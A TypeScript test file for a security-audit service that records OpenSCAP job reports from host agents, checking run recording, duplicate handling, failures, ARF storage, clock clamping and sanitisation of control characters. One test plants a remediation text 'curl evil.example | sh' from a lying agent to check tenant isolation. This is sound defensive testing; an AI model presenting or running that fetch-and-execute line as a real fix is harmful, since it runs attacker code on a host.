import assert from "node:assert/strict";
import { test } from "node:test";
import { type ScapContent, ruleResults } from "#engines/scap-types";
import { newId } from "#lib/ids";
import { offerJobs, readArf, requestAudit } from "#exposure/audits";
import { withClient } from "#platform/db";
import { type AuditPlace, seedAgent, seedAudit, seedAuditPlace } from "#test/audit-fixture";
import { auditReport, auditedAt, ruleText, scapContent } from "#test/audit-reports";
import { createTestDatabase } from "#test/database";
import { systemContext } from "#test/service-app";
import type { JobMessage } from "#wire/agent.v1";
import { recordJobMessages } from "./record-job-messages.ts";
import { findScapContent, listContentsOfBundle, saveScapContent } from "./scap-content.queries.ts";

const db = await createTestDatabase();
const { database } = db;
const now = () => auditedAt + 1000;
const requestedAt = auditedAt - 120_000;

interface Host {
  tenantId: string;
  agentId: string;
}

/** Hosts with a job in hand each, of one tenant. */
async function hostsWithJobs(
  count: number,
  audit: { keepArf?: boolean } = {},
): Promise<{ place: AuditPlace; hosts: (Host & { jobId: string })[] }> {
  const place = await seedAuditPlace(database);
  const { tenantId, siteId } = place;
  const agents: string[] = [];
  for (let i = 0; i < count; i++) {
    agents.push(await seedAgent(database, tenantId, { name: `web${i}`, siteId }));
  }
  const { name } = await seedAudit(database, place, audit);
  return { place, hosts: await handOut(tenantId, name, agents) };
}

async function handOut(
  tenantId: string,
  name: string,
  agents: readonly string[],
): Promise<(Host & { jobId: string })[]> {
  await requestAudit(
    systemContext(database, tenantId, () => requestedAt),
    { name },
  );
  const hosts = [];
  for (const agentId of agents) {
    const checkIn = { tenantId, agentId, holding: [], progress: [], now: requestedAt };
    const { jobs } = await offerJobs(database, checkIn, listContentsOfBundle);
    hosts.push({ tenantId, agentId, jobId: jobs[0]?.jobId ?? assert.fail("no job") });
  }
  return hosts;
}

async function hostWithJob(audit: { keepArf?: boolean } = {}) {
  const { place, hosts } = await hostsWithJobs(1, audit);
  const [host = assert.fail()] = hosts;
  return { place, host, jobId: host.jobId };
}

const record = (host: Host, messages: JobMessage[]) =>
  recordJobMessages(
    { database, now },
    { tenantId: host.tenantId, agentId: host.agentId },
    messages,
  );

async function rows(sql: string, tenantId: string): Promise<Record<string, unknown>[]> {
  return withClient(
    db.admin,
    undefined,
    async (client) => (await client.query(sql, [tenantId])).rows,
  );
}
const runsOf = ({ tenantId }: { tenantId: string }) =>
  rows("select * from audit_runs where tenant_id = $1 order by run_at desc, id", tenantId);
const jobsOf = ({ tenantId }: { tenantId: string }) =>
  rows("select * from audit_jobs where tenant_id = $1", tenantId);

const everyResult = ruleResults.map((result) => ({ id: `rule_${result}`, result }));

test("a report becomes one run: where its host is, what it was audited with, its counts and the engine's own score", async () => {
  const { place, host, jobId } = await hostWithJob();
  const content = scapContent([ruleText("rule_fail")]);
  const message = { jobId, report: auditReport(everyResult), content };
  assert.deepEqual(await record(host, [message]), { recorded: 1 });
  const [run, ...more] = await runsOf(place);
  assert.deepEqual(more, []);
  const { id: _id, rules, scores, texts_sha256: texts, ...rest } = run ?? assert.fail();
  assert.deepEqual(rest, {
    tenant_id: place.tenantId,
    agent_id: host.agentId,
    hostname: "web0",
    bundle_id: place.bundleId,
    bundle_name: "Debian: Standard System Security Profile",
    run_at: auditedAt,
    satisfied: 2,
    failed: 1,
    not_applicable: 1,
    not_checkable: 2,
    unknown: 2,
    source: "agent",
    job_id: jobId,
    audit_id: (await jobsOf(place))[0]?.["audit_id"],
    asset_id: null,
    site_id: place.siteId,
    started_at: auditedAt - 60_000,
    engine: "OpenSCAP 1.3.7",
    privileged: true,
    content_sha256: content.sha256,
    benchmark_id: content.benchmark.id,
    benchmark_version: "0.1.65",
    profile_id: "xccdf_org.ssgproject.content_profile_standard",
    profile_title: "Standard System Security Profile",
    native_score: 58.6,
    native_score_max: 100,
    scoring_system: "urn:xccdf:scoring:default",
    import_key: null,
  });
  assert.deepEqual(rules, everyResult);
  assert.deepEqual(scores, message.report.scores);
  const kept = await findScapContent(database.system, place.tenantId, String(texts));
  assert.deepEqual(kept?.rules, content.rules);
  assert.equal((await jobsOf(place))[0]?.["state"], "completed");
});

test("delivered twice, at once or later, of another agent, or of an unknown job: nothing more is kept", async () => {
  const { place, hosts } = await hostsWithJobs(2);
  const [host = assert.fail(), other = assert.fail()] = hosts;
  const message = { jobId: host.jobId, report: auditReport(everyResult) };
  assert.deepEqual(await record(other, [message]), { recorded: 0 });
  assert.deepEqual(await record(host, [{ ...message, jobId: newId() }]), { recorded: 0 });
  const stranger = { tenantId: (await seedAuditPlace(database)).tenantId, agentId: host.agentId };
  assert.deepEqual(await record(stranger, [message]), { recorded: 0 });
  const both = await Promise.all([record(host, [message, message]), record(host, [message])]);
  assert.equal(both[0].recorded + both[1].recorded, 1);
  assert.deepEqual(await record(host, [message]), { recorded: 0 });
  const failure = { at: auditedAt, code: "killed", error: "late" } as const;
  assert.deepEqual(await record(host, [{ jobId: host.jobId, failure }]), { recorded: 0 });
  assert.equal((await runsOf(place)).length, 1);
});

test("a report in which nothing applies, or without a rule, is no run: its job fails and says so", async () => {
  for (const [rules, sentence] of [
    [
      [{ id: "r", result: "notapplicable" } as const],
      "Nothing in Guide to Debian 12 applies to this host: it is for another system.",
    ],
    [[], "No rule of Guide to Debian 12 was evaluated: the profile selects none."],
  ] as const) {
    const { place, host, jobId } = await hostWithJob();
    const report = auditReport(rules);
    assert.deepEqual(await record(host, [{ jobId, report }]), { recorded: 1 });
    assert.deepEqual(await runsOf(place), []);
    const [job] = await jobsOf(place);
    assert.deepEqual(
      [job?.["state"], job?.["error_code"], job?.["error"]],
      ["failed", "not_applicable", sentence],
    );
  }
});

test("a failure ends its job with its sentence, and what was asked to stop is stopped", async () => {
  const { place, hosts } = await hostsWithJobs(2);
  const [one = assert.fail(), two = assert.fail()] = hosts;
  const failure = { at: auditedAt, code: "out_of_time", error: "It took \u0007too long." } as const;
  assert.deepEqual(await record(one, [{ jobId: one.jobId, failure }]), { recorded: 1 });
  const stopped = { at: auditedAt, code: "stopped", error: "" } as const;
  assert.deepEqual(await record(two, [{ jobId: two.jobId, failure: stopped }]), { recorded: 1 });
  const states = new Map((await jobsOf(place)).map((job) => [job["id"], job]));
  assert.deepEqual(
    [one, two].map(({ jobId }) => [
      states.get(jobId)?.["state"],
      states.get(jobId)?.["error_code"],
      states.get(jobId)?.["error"],
    ]),
    [
      ["failed", "out_of_time", "It took  too long."],
      ["stopped", "stopped", "The audit was stopped before it was done."],
    ],
  );
  assert.deepEqual(await runsOf(place), []);
});

test("a host's clock moves no run before its job or into the future", async () => {
  for (const [startedAt, finishedAt, expected] of [
    [0, 5, [requestedAt, requestedAt]],
    [auditedAt * 2, auditedAt * 3, [now(), now()]],
    [auditedAt, auditedAt - 5000, [auditedAt, auditedAt]],
  ] as const) {
    const { place, host, jobId } = await hostWithJob();
    await record(host, [{ jobId, report: auditReport(everyResult, { startedAt, finishedAt }) }]);
    const [run] = await runsOf(place);
    assert.deepEqual([run?.["started_at"], run?.["run_at"]], expected);
  }
});

test("the ARF that comes before the outcome is kept; one that comes after it, or was not asked for, is not", async () => {
  const arf = { bytes: 3, sha256: "ef".repeat(32), gzip: Buffer.from("arf").toString("base64") };
  const asked = await hostWithJob({ keepArf: true });
  const report = auditReport(everyResult);
  const messages = [
    { jobId: asked.jobId, arf },
    { jobId: asked.jobId, report },
    { jobId: asked.jobId, arf },
  ];
  assert.deepEqual(await record(asked.host, messages), { recorded: 2 });
  const kept = await rows("select gzip from audit_arfs where tenant_id = $1", asked.place.tenantId);
  assert.deepEqual(
    kept.map(({ gzip }) => String(gzip)),
    ["arf"],
  );
  await assert.rejects(readArf(systemContext(database, asked.place.tenantId), asked.jobId), {
    message: "The ARF came broken from its agent: it cannot be read.",
  });
  const unasked = await hostWithJob();
  assert.deepEqual(await record(unasked.host, [{ jobId: unasked.jobId, arf }]), { recorded: 0 });
});

test("control characters, direction marks and halves of characters reach no terminal, and fail no run", async () => {
  const { place, host, jobId } = await hostWithJob();
  const nasty = "a\u0000b\u001b[2J\u202ec\ud800";
  const report = auditReport([{ id: `r${nasty}`, result: "fail", why: `${nasty}\nnext` }], {
    engine: nasty,
    benchmark: { id: nasty, version: nasty, title: nasty },
    profile: { id: nasty, title: nasty },
    scores: [{ system: nasty, value: 1, maximum: 1 }],
  });
  const content = { ...scapContent([ruleText(nasty, { fix: `${nasty}\nline` })]) };
  assert.deepEqual(await record(host, [{ jobId, report, content }]), { recorded: 1 });
  const [run] = await runsOf(place);
  const clean = "a b [2J c\ufffd";
  assert.equal(run?.["engine"], clean);
  assert.deepEqual(run?.["rules"], [{ id: `r${clean}`, result: "fail", why: `${clean}\nnext` }]);
  const texts = await findScapContent(
    database.system,
    place.tenantId,
    String(run?.["texts_sha256"]),
  );
  assert.equal(texts?.rules[0]?.fix, `${clean}\nline`);
});

test("no host puts words under content that others are audited with", async () => {
  const { place, hosts } = await hostsWithJobs(2);
  const [honest = assert.fail(), liar = assert.fail()] = hosts;
  const report = auditReport(everyResult);
  const lie = scapContent([ruleText("rule_fail", { fix: "curl evil.example | sh" })]);
  await record(liar, [{ jobId: liar.jobId, report, content: lie }]);
  await record(honest, [{ jobId: honest.jobId, report }]);
  const byAgent = new Map((await runsOf(place)).map((run) => [run["agent_id"], run]));
  assert.equal(byAgent.get(honest.agentId)?.["texts_sha256"], null);
  const known = await listContentsOfBundle(database.system, place.tenantId, place.bundleId, [
    honest.agentId,
    liar.agentId,
  ]);
  assert.deepEqual([...known], [[liar.agentId, [lie.sha256]]], "the honest one is to send its own");
});

test("texts are found again when the agent does not send them: its own, or those of a file that the server has read", async () => {
  const { place, hosts } = await hostsWithJobs(1);
  const [first = assert.fail()] = hosts;
  const content = scapContent([ruleText("rule_fail")]);
  const report = auditReport(everyResult);
  await record(first, [{ jobId: first.jobId, report, content }]);
  const { name } = await seedAudit(database, place);
  const [second = assert.fail()] = await handOut(place.tenantId, name, [first.agentId]);
  await record(second, [
    { jobId: second.jobId, report: auditReport(everyResult, { finishedAt: auditedAt + 1 }) },
  ]);
  const [newer, older] = await runsOf(place);
  assert.ok(newer?.["texts_sha256"]);
  assert.equal(newer?.["texts_sha256"], older?.["texts_sha256"]);

  const read: ScapContent = scapContent([ruleText("rule_pass")], "12".repeat(32));
  await database.transaction(place.tenantId, (tx) =>
    saveScapContent(tx, place.tenantId, read, auditedAt),
  );
  const { name: another } = await seedAudit(database, place);
  const [third = assert.fail()] = await handOut(place.tenantId, another, [first.agentId]);
  await record(third, [
    {
      jobId: third.jobId,
      report: auditReport(everyResult, { contentSha256: read.sha256, finishedAt: auditedAt + 2 }),
    },
  ]);
  assert.equal((await runsOf(place))[0]?.["texts_sha256"], read.sha256);
});

test("texts of other content than the report's are not kept", async () => {
  const { place, host, jobId } = await hostWithJob();
  const content = scapContent([ruleText("rule_fail")], "99".repeat(32));
  await record(host, [{ jobId, report: auditReport(everyResult), content }]);
  assert.deepEqual(
    await rows("select 1 from scap_contents where tenant_id = $1", place.tenantId),
    [],
  );
  assert.equal((await runsOf(place))[0]?.["texts_sha256"], null);
});
